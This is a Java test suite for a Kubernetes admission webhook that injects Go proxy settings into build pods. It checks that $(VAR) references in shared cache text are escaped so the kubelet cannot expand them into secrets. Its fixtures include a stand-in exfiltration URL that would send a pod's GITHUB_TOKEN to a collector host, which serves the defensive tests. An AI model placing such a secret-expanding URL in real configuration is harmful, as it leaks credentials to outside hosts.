package dev.modproxy.operator.webhook;

import static dev.modproxy.operator.webhook.AdmissionFixtures.admittedPod;
import static dev.modproxy.operator.webhook.AdmissionFixtures.env;
import static dev.modproxy.operator.webhook.AdmissionFixtures.patch;
import static dev.modproxy.operator.webhook.AdmissionFixtures.reinvocation;
import static dev.modproxy.operator.webhook.ImageBuildReviewsTest.container;
import static org.assertj.core.api.Assertions.assertThat;

import dev.modproxy.operator.api.v1alpha1.CacheCondition;
import dev.modproxy.operator.api.v1alpha1.GoProxyCache;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import jakarta.json.Json;
import jakarta.json.JsonArrayBuilder;
import jakarta.json.JsonObject;
import jakarta.json.JsonValue;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

/**
 * A GoProxyCache's text reaches build pods as text: the kubelet expands {@code $(NAME)} in env values and in
 * command lines, so whoever edits a cache (maybe in another namespace) could otherwise have a pod's Secrets
 * sent to a host of their choosing. Only the webhook's own {@code $(GOPRIVATE)} stays a reference.
 */
class CacheTextIsNotExpandedTest {

    static final String CACHE_URL = "http://gomod.build-infra.svc";
    static final String FALLBACK = "https://collector.example.com/$(GITHUB_TOKEN)|https://mirror.example.com/a$b$";
    static final String PRIVATE = "git.corp.example.com/$(GITHUB_TOKEN)";
    // what the go command must see: the cache's text, as its author wrote it
    static final String GOPROXY = CACHE_URL + "|" + FALLBACK;
    static final String SECRET = "ghp_s3cretT0ken";
    static final Map<String, String> SECRETS = Map.of("GITHUB_TOKEN", SECRET);

    final InMemoryCacheDirectory directory = new InMemoryCacheDirectory()
            .add(new CacheTarget(
                    new CacheRef("build-infra", "gomod"),
                    CACHE_URL,
                    FALLBACK,
                    List.of(PRIVATE),
                    List.of("corp.example.com/$(HOME)"),
                    true,
                    false))
            .namespace("team-a", Map.of("modproxy.dev/inject", "enabled"), Map.of());
    final AdmissionReviewHandler handler = new AdmissionReviewHandler(
            new PodMutator(directory, Set.of("kube-system", "modproxy")),
            new InjectionMetrics(new SimpleMeterRegistry()));

    /** A Kaniko step with a GOPRIVATE and a secret of its own. */
    private static JsonObject kaniko() {
        return Json.createObjectBuilder()
                .add("name", "kaniko")
                .add("image", "gcr.io/kaniko-project/executor:v1.23.2")
                .add("args", Json.createArrayBuilder().add("--destination=registry.example.com/app:1"))
                .add("env", ownGoPrivateAndToken())
                .build();
    }

    byte[] handle(byte[] review) {
        AdmissionReviewHandler.Reply reply = handler.handle(review);
        assertThat(reply.status())
                .as(() -> new String(reply.body(), StandardCharsets.UTF_8))
                .isEqualTo(200);
        return reply.body();
    }

    @Test
    void aReferenceInTheCachesFallbackIsWrittenEscapedSoTheContainerGetsTheTextNotItsSecret() {
        byte[] review = reviewOf(pod(goContainer("build", false)));

        JsonObject pod = admittedPod(review, handle(review));

        assertThat(env(pod, "containers", "build"))
                .containsEntry(
                        "GOPROXY",
                        "http://gomod.build-infra.svc|https://collector.example.com/$$(GITHUB_TOKEN)"
                                + "|https://mirror.example.com/a$$b$$")
                .containsEntry("GOPRIVATE", "git.corp.example.com/$$(GITHUB_TOKEN)")
                .containsEntry("GONOPROXY", "git.corp.example.com/$$(GITHUB_TOKEN)")
                .containsEntry("GONOSUMDB", "git.corp.example.com/$$(GITHUB_TOKEN),corp.example.com/$$(HOME)");
        Map<String, String> seen = KubeletExpansion.environment(container(pod, "build"), SECRETS);
        assertThat(seen)
                .containsEntry("GOPROXY", GOPROXY)
                .containsEntry("GOPRIVATE", PRIVATE)
                .containsEntry("GONOPROXY", PRIVATE)
                .containsEntry("GONOSUMDB", PRIVATE + ",corp.example.com/$(HOME)");
        assertThat(seen.entrySet())
                .filteredOn(var -> var.getValue().contains(SECRET))
                .extracting(Map.Entry::getKey)
                .containsExactly("GITHUB_TOKEN");
    }

    @Test
    void anUpstreamChainWithAReferenceIsEscapedToo() {
        GoProxyCache cache = CacheTargetMappingTest.cache(
                "https://collector.example.com/$(GITHUB_TOKEN),direct", null, CacheCondition.TRUE, Map.of());
        cache.getMetadata().setNamespace("team-a");
        directory.add(KubernetesCacheDirectory.target(cache));
        JsonObject own = Json.createObjectBuilder(goContainer("build", false))
                .remove("env")
                .build();
        byte[] review = reviewOf(Json.createObjectBuilder(pod(own))
                .add("metadata", Json.createObjectBuilder().add("generateName", "build-"))
                .build());

        JsonObject pod = admittedPod(review, handle(review));

        assertThat(env(pod, "containers", "build"))
                .containsEntry(
                        "GOPROXY", "http://gomod-proxy.ci.svc|https://collector.example.com/$$(GITHUB_TOKEN),direct");
    }

    @Test
    void theWebhooksOwnGoprivateReferenceStaysOneTheKubeletExpands() {
        byte[] review = reviewOf(pod(goContainer("build", true)));

        JsonObject pod = admittedPod(review, handle(review));

        assertThat(env(pod, "containers", "build"))
                .containsEntry("GONOPROXY", "git.corp.example.com/$$(GITHUB_TOKEN),$(GOPRIVATE)")
                .containsEntry(
                        "GONOSUMDB", "git.corp.example.com/$$(GITHUB_TOKEN),corp.example.com/$$(HOME),$(GOPRIVATE)");
        assertThat(KubeletExpansion.environment(container(pod, "build"), SECRETS))
                .containsEntry("GOPRIVATE", "git.team.example.com/*")
                .containsEntry("GONOPROXY", PRIVATE + ",git.team.example.com/*")
                .containsEntry("GONOSUMDB", PRIVATE + ",corp.example.com/$(HOME),git.team.example.com/*");
    }

    @Test
    void kanikoAndBuildkitGetTheCachesTextEscapedInTheirBuildArguments() {
        JsonObject kaniko = kaniko();
        JsonObject buildkit = Json.createObjectBuilder()
                .add("name", "buildkit")
                .add("image", "moby/buildkit:v0.16.0-rootless")
                .add(
                        "command",
                        Json.createArrayBuilder()
                                .add("buildctl-daemonless.sh")
                                .add("build")
                                .add("--frontend=dockerfile.v0"))
                .add("env", tokenOnly())
                .build();
        byte[] review = reviewOf(pod(kaniko, buildkit));

        JsonObject pod = admittedPod(review, handle(review));

        assertThat(words(container(pod, "kaniko"), "args"))
                .contains(
                        "--build-arg=GOPROXY=http://gomod.build-infra.svc|https://collector.example.com/$$(GITHUB_TOKEN)"
                                + "|https://mirror.example.com/a$$b$$",
                        "--build-arg=GONOPROXY=git.corp.example.com/$$(GITHUB_TOKEN),$(GOPRIVATE)");
        assertThat(KubeletExpansion.commandLine(container(pod, "kaniko"), SECRETS))
                .contains("--build-arg=GOPROXY=" + GOPROXY)
                .contains("--build-arg=GONOPROXY=" + PRIVATE + ",git.team.example.com/*")
                .noneMatch(word -> word.contains(SECRET));

        assertThat(words(container(pod, "buildkit"), "args"))
                .contains(
                        "--opt=build-arg:GOPROXY=http://gomod.build-infra.svc"
                                + "|https://collector.example.com/$$(GITHUB_TOKEN)|https://mirror.example.com/a$$b$$",
                        "--opt=build-arg:GOPRIVATE=git.corp.example.com/$$(GITHUB_TOKEN)");
        assertThat(KubeletExpansion.commandLine(container(pod, "buildkit"), SECRETS))
                .contains("--opt=build-arg:GOPROXY=" + GOPROXY, "--opt=build-arg:GOPRIVATE=" + PRIVATE)
                .noneMatch(word -> word.contains(SECRET));
        assertThat(pod.getJsonObject("metadata").getJsonObject("annotations").getString("modproxy.dev/injected"))
                .as("the annotation is not expanded: nothing in it is escaped")
                .isEqualTo("{\"cache\":\"build-infra/gomod\",\"outcome\":\"injected\",\"buildArgs\":[\"kaniko\","
                        + "\"buildkit\"]}");
    }

    @Test
    void reinvocationRecognisesTheEscapedValuesAsItsOwnAndAddsNothing() {
        JsonObject kaniko = kaniko();
        byte[] review = reviewOf(pod(goContainer("build", false), kaniko));
        JsonObject once = admittedPod(review, handle(review));

        byte[] again = handle(reinvocation(review, once));

        assertThat(patch(again)).isEqualTo(JsonValue.EMPTY_JSON_ARRAY);
    }

    @Test
    void theExpansionTheseTestsReadPodsWithIsTheOneTheApiReferenceDescribes() {
        Map<String, String> vars = Map.of("A", "x");

        assertThat(KubeletExpansion.expand("$(A)/$(B)", vars)).isEqualTo("x/$(B)");
        assertThat(KubeletExpansion.expand("$$(A) $$ $$$(A)", vars)).isEqualTo("$(A) $ $x");
        assertThat(KubeletExpansion.expand("a$b $(A $", vars)).isEqualTo("a$b $(A $");
        for (String text : List.of(FALLBACK, PRIVATE, "$", "$$", "$(A", "$()", "a$(A)$$(A)$")) {
            assertThat(KubeletExpansion.expand(VariableReferences.literal(text), vars))
                    .as(text)
                    .isEqualTo(text);
        }
    }

    static JsonObject goContainer(String name, boolean ownGoPrivate) {
        return Json.createObjectBuilder()
                .add("name", name)
                .add("image", "golang:1.26")
                .add("command", Json.createArrayBuilder().add("go").add("build").add("./..."))
                .add("env", ownGoPrivate ? ownGoPrivateAndToken() : tokenOnly())
                .build();
    }

    static JsonArrayBuilder tokenOnly() {
        return Json.createArrayBuilder().add(githubToken());
    }

    static JsonArrayBuilder ownGoPrivateAndToken() {
        return Json.createArrayBuilder()
                .add(githubToken())
                .add(Json.createObjectBuilder().add("name", "GOPRIVATE").add("value", "git.team.example.com/*"));
    }

    static JsonObject githubToken() {
        return Json.createObjectBuilder()
                .add("name", "GITHUB_TOKEN")
                .add(
                        "valueFrom",
                        Json.createObjectBuilder()
                                .add(
                                        "secretKeyRef",
                                        Json.createObjectBuilder()
                                                .add("name", "github")
                                                .add("key", "token")))
                .build();
    }

    static List<String> words(JsonObject container, String list) {
        return BuilderCommandLines.strings(container.getJsonArray(list));
    }

    /** A pod of team-a that names the shared cache build-infra/gomod, as the platform team's docs say. */
    static JsonObject pod(JsonObject... containers) {
        JsonArrayBuilder list = Json.createArrayBuilder();
        for (JsonObject c : containers) {
            list.add(c);
        }
        return Json.createObjectBuilder()
                .add("apiVersion", "v1")
                .add("kind", "Pod")
                .add(
                        "metadata",
                        Json.createObjectBuilder()
                                .add("generateName", "build-")
                                .add("namespace", "team-a")
                                .add(
                                        "annotations",
                                        Json.createObjectBuilder().add("modproxy.dev/cache", "build-infra/gomod")))
                .add("spec", Json.createObjectBuilder().add("containers", list))
                .build();
    }

    static byte[] reviewOf(JsonObject pod) {
        return Json.createObjectBuilder()
                .add("apiVersion", "admission.k8s.io/v1")
                .add("kind", "AdmissionReview")
                .add(
                        "request",
                        Json.createObjectBuilder()
                                .add("uid", "c0ffee00-0000-4000-8000-000000000042")
                                .add(
                                        "kind",
                                        Json.createObjectBuilder()
                                                .add("group", "")
                                                .add("version", "v1")
                                                .add("kind", "Pod"))
                                .add("namespace", "team-a")
                                .add("operation", "CREATE")
                                .add("object", pod))
                .build()
                .toString()
                .getBytes(StandardCharsets.UTF_8);
    }
}
